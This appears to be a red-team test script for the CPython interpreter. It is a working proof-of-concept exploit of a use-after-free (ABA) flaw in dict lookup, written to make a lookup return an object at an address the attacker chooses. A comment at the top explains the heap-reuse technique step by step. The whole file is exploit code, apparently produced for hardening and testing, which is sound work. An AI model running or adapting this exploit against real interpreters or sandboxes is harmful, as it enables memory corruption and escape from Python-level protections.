# technique: (crash form of 01) a str-subclass key looked up in a str-only (unicode) dict table: its __eq__ clears the dict (frees the keys object, 1520 bytes, glibc) and d.update(other) clones a general table of 1104 bytes into the same address; unicodekeys_lookup_generic's check `dk == mp->ma_keys && ep->me_key == startkey` passes (ABA: same address, and the old entry's key slot is now general entry 3's key, which we made the same str), and _Py_dict_lookup reads the "value" with the unicode layout from the new general table: general entry 1's me_hash, a hash we return from __hash__, i.e. an object pointer of our choice. The worker's _Py_dict_lookup guard only looks at general->str-only changes with a not-found result. (red-team pass 80)
# expect: any
FAKE = 0x4141414141414140

def attempt(n):
    s_target = "tgt%d_" % n + "x" * 10
    H = hash(s_target)
    class FakeH:
        def __init__(self, h): self.h = h
        def __hash__(self): return self.h
        def __eq__(self, o): return self is o
    # other: general table, log2 size 6 (22..42 entries): entry 1's hash = FAKE, entry 3's key = s_target
    other = {}
    other[FakeH(7)] = 0
    other[FakeH(FAKE)] = 1
    other[FakeH(9)] = 2
    other[s_target] = 3
    for i in range(30):
        other[FakeH(1000 + i)] = i
    # d: str-only table, log2 size 7 (43..85 entries), s_target at entry index 1
    d = {}
    d["a%d" % n] = 0
    d[s_target] = 1
    for i in range(50):
        d["f%d_%d" % (n, i)] = i
    state = {"calls": 0}
    class K(str):
        def __hash__(self): return H
        def __eq__(self, o):
            state["calls"] += 1
            if state["calls"] == 1:
                d.clear()            # frees the 1520-byte str-only keys object
                d.update(other)      # clone_combined_dict_keys: a 1104-byte general one, same address
                return True
            return False             # the address was not reused: the lookup restarted
    r = d.get(K("zz"))
    return state["calls"], r

for n in range(200):
    calls, r = attempt(n)
    if calls == 1:
        print("got", r, r is Ellipsis)
        raise RuntimeError("dict lookup returned the object at an address we chose")
print("address never reused")
